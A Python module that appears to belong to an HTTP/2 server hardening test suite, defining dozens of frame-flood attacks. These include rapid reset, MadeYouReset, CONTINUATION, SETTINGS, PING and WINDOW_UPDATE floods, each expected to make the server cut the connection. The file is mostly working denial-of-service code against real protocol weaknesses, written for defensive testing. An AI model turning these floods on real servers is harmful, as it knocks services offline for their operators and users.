"""Floods of HTTP/2 frames, streams and resets."""

import time

from attacks.catalogue import attack, flood
from attacks.wire import *


def opened(blob_of, count=1_000, first=1):
    """Blobs with fresh stream ids, one after the other."""
    for start in range(first, 1 << 30, 2 * count):
        yield b"".join(blob_of(stream) for stream in range(start, start + 2 * count, 2))


def churn(target, blob_of, count=1_000, **peer):
    """A flood whose blobs open streams."""
    end = time.monotonic() + target.seconds
    made = cut = 0
    while made == 0 or time.monotonic() < end:
        try:
            with Peer(target, **peer) as one:
                made += 1
                for blob in opened(blob_of, count):
                    if not one.send(blob) or time.monotonic() > end + 1:
                        break
                    one.pump()
                cut += one.cut_within(3)
        except OSError:
            pass
        time.sleep(0.05)
    return "cut" if made and cut == made else f"{made - cut} of {made} connections were not cut"


def paced(target, blob_of, batch=50, most=4_000):
    """So many streams at a time, each of which the server must reset, waiting for the resets."""
    with Peer(target) as one:
        stream = 1
        while stream < 2 * most and not one.closed:
            mine = range(stream, stream + 2 * batch, 2)
            if not one.send(b"".join(map(blob_of, mine))):
                break
            one.wait(lambda: all(map(one.is_over, mine)), 5)
            stream += 2 * batch
        return "cut" if one.cut_within(1) else f"{len(one.resets)} resets, not cut"


REQUEST = request()
HALF = request(CHECK)
OVERFLOW = lambda s: headers(s, REQUEST) + window(0x7FFFFFFF, s)
UPPERCASE = lambda s: headers(s, REQUEST + fields(("Bad", "1")), END_HEADERS | END_STREAM)
LENGTH = lambda s: headers(s, request(CHECK, ("content-length", "1"))) + data(s, b"ab", END_STREAM)


@attack("cut", "Rapid reset (CVE-2023-44487)")
def rapid_reset(target):
    return churn(target, lambda s: headers(s, REQUEST) + reset(s))


@attack("cut", "Rapid reset of calls that wait in a handler")
def rapid_reset_of_handlers(target):
    job = b"\n\x05\x12\x03abc"
    return churn(target, lambda s: call(s, SUBMIT, job) + reset(s), 100)


@attack("cut", "MadeYouReset (CVE-2025-8671), as fast as it goes")
def made_you_reset(target):
    return churn(target, OVERFLOW, 100)


@attack("cut", "MadeYouReset, 50 at a time, waiting: window overflow")
def made_you_reset_paced(target):
    return paced(target, OVERFLOW)


@attack("cut", "MadeYouReset, 50 at a time: a malformed header")
def made_you_reset_header(target):
    return paced(target, UPPERCASE)


@attack("cut", "MadeYouReset, 50 at a time: content-length that is not true")
def made_you_reset_length(target):
    return paced(target, LENGTH)


@attack("cut", "CONTINUATION flood (CVE-2024-28182)")
def continuation_flood(target):
    return flood(target, frame(CONTINUATION, 0, 1, fields(("a", "b"))) * 1_000,
                 opening=headers(1, REQUEST, 0))


@attack("cut", "empty CONTINUATION flood")
def empty_continuation_flood(target):
    return flood(target, frame(CONTINUATION, 0, 1) * 5_000, opening=headers(1, REQUEST, 0))


@attack("cut", "SETTINGS flood, answers read (CVE-2019-9515)")
def settings_flood(target):
    return flood(target, settings((4, 65_535)) * 2_000)


@attack("cut", "SETTINGS flood, answers not read")
def settings_unread(target):
    return flood(target, settings() * 5_000, reads=False)


@attack("cut", "large SETTINGS (CVE-2020-11080)")
def settings_large(target):
    return flood(target, settings(*[(0x99, 1)] * 2_000) * 10)


@attack("cut", "acknowledgements of nothing")
def settings_ack_flood(target):
    return flood(target, frame(SETTINGS, ACK) * 5_000)


@attack("cut", "PING flood, answers read (CVE-2019-9512)")
def ping_flood(target):
    return flood(target, frame(PING, payload=b"12345678") * 2_000)


@attack("cut", "PING flood, answers not read")
def ping_unread(target):
    return flood(target, frame(PING, payload=b"12345678") * 5_000, reads=False)


@attack("cut", "answers to PINGs that nobody sent")
def pong_flood(target):
    return flood(target, frame(PING, ACK, payload=b"12345678") * 5_000)


@attack("cut", "empty DATA (CVE-2019-9518)")
def empty_data(target):
    return flood(target, data(1) * 5_000, opening=headers(1))


@attack("cut", "DATA that is nothing but padding")
def padded_data(target):
    return flood(target, data(1, b"\xff" + bytes(255), PADDED) * 500, opening=headers(1))


@attack("cut", "empty DATA on a stream that is gone")
def data_after_end(target):
    return flood(target, data(1) * 5_000, opening=headers(1) + reset(1))


@attack("cut", "PRIORITY flood (CVE-2019-9513)")
def priority_flood(target):
    return flood(target, frame(PRIORITY, 0, 1, bytes(4) + b"\x10") * 5_000)


@attack("cut", "WINDOW_UPDATE flood of the connection")
def window_update_flood(target):
    return flood(target, window(1) * 5_000)


@attack("cut", "WINDOW_UPDATE flood with increments that look right")
def window_update_large(target):
    return flood(target, window(1_024) * 5_000)


@attack("cut", "WINDOW_UPDATE flood on a stream that is gone")
def window_update_gone(target):
    return flood(target, window(65_536, 1) * 5_000, opening=headers(1) + reset(1))


@attack("cut", "frames of unknown types")
def unknown_frames(target):
    return flood(target, frame(0x42, 0, 0, b"x" * 8) * 5_000)


@attack("cut", "ALTSVC and PRIORITY_UPDATE, before and after an error (class of CVE-2026-27135)")
def extension_frames(target):
    both = frame(0xA, 0, 0, b"\0\0") + frame(0x10, 0, 0, bytes(4) + b"u=1")
    before = flood(target, both * 1_000)
    return flood(target, window(0) + both * 1_000) if before == "cut" else before


@attack("cut", "GOAWAY flood")
def goaway_flood(target):
    return flood(target, frame(GOAWAY, payload=bytes(8)) * 5_000)


@attack("cut", "header lists for a stream that is gone")
def headers_of_the_gone(target):
    more = frame(HEADERS, END_HEADERS | END_STREAM, 1, fields(("a", "b")))
    return flood(target, more * 2_000, opening=headers(1) + reset(1))


@attack("cut", "more streams than allowed, after agreeing to the limit")
def hoard(target):
    return churn(target, lambda s: headers(s, HALF), 300)


@attack("refused", "more streams than allowed, before the limit is known: refused, to be tried again",
        connections=1)
def hoard_before_settings(target):
    with Peer(target, ack=False) as one:
        one.send(b"".join(headers(s, HALF) for s in range(1, 2 * 150, 2)))
        one.wait(lambda: len(one.resets) >= 150 - 128, 3)
        good = len(one.resets) == 150 - 128 and set(one.resets.values()) == {7}
        return "refused" if good else f"{len(one.resets)} resets: {set(one.resets.values())}"


@attack("cut", "window dribbled out a byte at a time (CVE-2019-9511)")
def window_dribble(target):
    calls = b"".join(call(s, HEALTH) for s in range(1, 101, 2))
    dribble = b"".join(window(1, s) for s in range(1, 101, 2))
    with Peer(target, opening=settings((4, 0))) as one:
        one.send(calls)
        end = time.monotonic() + max(target.seconds, 2)
        while one.send(dribble) and time.monotonic() < end:
            one.pump(0.01)
        return "cut" if one.cut_within(2) else "not cut"
